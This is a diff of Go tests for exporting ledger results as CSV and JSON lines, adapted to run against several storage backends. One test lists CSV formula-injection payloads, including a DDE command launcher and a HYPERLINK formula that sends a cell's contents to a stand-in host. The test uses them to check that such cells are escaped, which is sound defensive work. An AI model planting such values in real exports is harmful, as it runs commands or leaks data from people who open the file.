@@ -46,23 +46,29 @@ func TestResultOf(t *testing.T) {
 
 // exportLedger returns a ledger holding n entries of run "r1" and one of
 // run "r2", with the texts a results file must keep intact.
-func exportLedger(t *testing.T, n int) *Ledger {
-	l := tempLedger(t)
-	for i := range n {
+func exportLedger(t *testing.T, b backend, n int) Store {
+	l := b.temp(t)
+	es := make([]pipeline.Entry, n)
+	for i := range es {
 		e := sample(fmt.Sprintf("O-%04d", i), pipeline.StateRejected)
 		e.RunID = "r1"
 		e.Messages = []pipeline.Message{{Field: "Note", Value: `a "quoted", comma`, Text: "too long"}}
-		mustPut(t, l, e)
+		es[i] = e
+	}
+	if err := l.PutAll(t.Context(), es); err != nil {
+		t.Fatal(err)
 	}
 	mustPut(t, l, pipeline.Entry{Key: pipeline.Key{EventType: "9", OrderID: "X"}, State: pipeline.StateAccepted, RunID: "r2", HTTPStatus: 200})
 	return l
 }
 
-func TestWriteCSV(t *testing.T) {
+func TestWriteCSV(t *testing.T) { forEachBackend(t, testWriteCSV) }
+
+func testWriteCSV(t *testing.T, b backend) {
 	header := "key,order,source,state,http_status,messages,submission_id\n"
 	for _, n := range []int{0, 1, resultChunk - 1, resultChunk, resultChunk + 1, 2*resultChunk + 3} {
 		t.Run(fmt.Sprint(n), func(t *testing.T) {
-			l := exportLedger(t, n)
+			l := exportLedger(t, b, n)
 			var buf bytes.Buffer
 			if err := WriteCSV(t.Context(), &buf, l, pipeline.Filter{RunID: "r1"}); err != nil {
 				t.Fatal(err)
@@ -142,8 +148,10 @@ func TestCSVWriterNoGoroutines(t *testing.T) {
 	}
 }
 
-func TestWriteJSONL(t *testing.T) {
-	l := exportLedger(t, 3)
+func TestWriteJSONL(t *testing.T) { forEachBackend(t, testWriteJSONL) }
+
+func testWriteJSONL(t *testing.T, b backend) {
+	l := exportLedger(t, b, 3)
 	var buf bytes.Buffer
 	if err := WriteJSONL(t.Context(), &buf, l, pipeline.Filter{}); err != nil {
 		t.Fatal(err)
@@ -172,8 +180,10 @@ func TestWriteJSONL(t *testing.T) {
 	}
 }
 
-func TestWriteResultsFile(t *testing.T) {
-	l := exportLedger(t, 2)
+func TestWriteResultsFile(t *testing.T) { forEachBackend(t, testWriteResultsFile) }
+
+func testWriteResultsFile(t *testing.T, b backend) {
+	l := exportLedger(t, b, 2)
 	path := ResultsPath(filepath.Join(t.TempDir(), "ledger.db"), "2026-03-01T02:00:00Z/x")
 	if want := ".db.results-2026-03-01T02_00_00Z_x.csv"; !strings.HasSuffix(path, want) {
 		t.Errorf("ResultsPath = %s, want it to end in %s", path, want)
@@ -181,12 +191,12 @@ func TestWriteResultsFile(t *testing.T) {
 	if err := WriteResultsFile(t.Context(), l, path, "r1"); err != nil {
 		t.Fatal(err)
 	}
-	b, err := os.ReadFile(path)
+	data, err := os.ReadFile(path)
 	if err != nil {
 		t.Fatal(err)
 	}
-	if n := strings.Count(string(b), "\n"); n != 3 || !strings.Contains(string(b), "12345/O-0001") || strings.Contains(string(b), "9/X") {
-		t.Errorf("results file:\n%s", b)
+	if n := strings.Count(string(data), "\n"); n != 3 || !strings.Contains(string(data), "12345/O-0001") || strings.Contains(string(data), "9/X") {
+		t.Errorf("results file:\n%s", data)
 	}
 	files, _ := filepath.Glob(filepath.Join(filepath.Dir(path), "*"))
 	if len(files) != 1 {
@@ -197,7 +207,7 @@ func TestWriteResultsFile(t *testing.T) {
 	if err := WriteResultsFile(t.Context(), l, path, "r1"); !errors.Is(err, ErrClosed) {
 		t.Errorf("WriteResultsFile on a closed ledger = %v", err)
 	}
-	if b2, _ := os.ReadFile(path); !bytes.Equal(b, b2) {
+	if b2, _ := os.ReadFile(path); !bytes.Equal(data, b2) {
 		t.Error("a failed write changed the results file")
 	}
 	if files, _ := filepath.Glob(filepath.Join(filepath.Dir(path), "*")); len(files) != 1 {
@@ -209,7 +219,9 @@ func TestWriteResultsFile(t *testing.T) {
 // (OrderIds, messages, sources from a shop's export) are written with a
 // leading "'", in the results file and in the export alike; other cells
 // and the JSON lines are written as they are.
-func TestCSVFormulaInjection(t *testing.T) {
+func TestCSVFormulaInjection(t *testing.T) { forEachBackend(t, testCSVFormulaInjection) }
+
+func testCSVFormulaInjection(t *testing.T, b backend) {
 	hostile := []string{`=cmd|' /C calc'!A0`, "+1", "@SUM(A1)", `=HYPERLINK("http://x.example/?d="&A1,"click")`, "-2+3", "\tx", "\rx"}
 	benign := []string{"O-1", "a=b", "1+2", " =space first", "'quoted"}
 	// The rule, as OWASP states it, applied to the fields of want.
@@ -219,7 +231,7 @@ func TestCSVFormulaInjection(t *testing.T) {
 		}
 		return s
 	}
-	l := tempLedger(t)
+	l := b.temp(t)
 	want := map[string]Result{} // by the order cell
 	stored := []string{}        // the OrderIds as stored
 	for i, id := range append(append([]string{}, hostile...), benign...) {
@@ -277,7 +289,7 @@ func TestCSVFormulaInjection(t *testing.T) {
 
 // checkJSONLExact checks that the JSON lines of l hold each of the
 // OrderIds as stored, and each entry's message, unescaped.
-func checkJSONLExact(t *testing.T, l *Ledger, orderIDs []string) {
+func checkJSONLExact(t *testing.T, l Store, orderIDs []string) {
 	t.Helper()
 	var jl bytes.Buffer
 	if err := WriteJSONL(t.Context(), &jl, l, pipeline.Filter{}); err != nil {
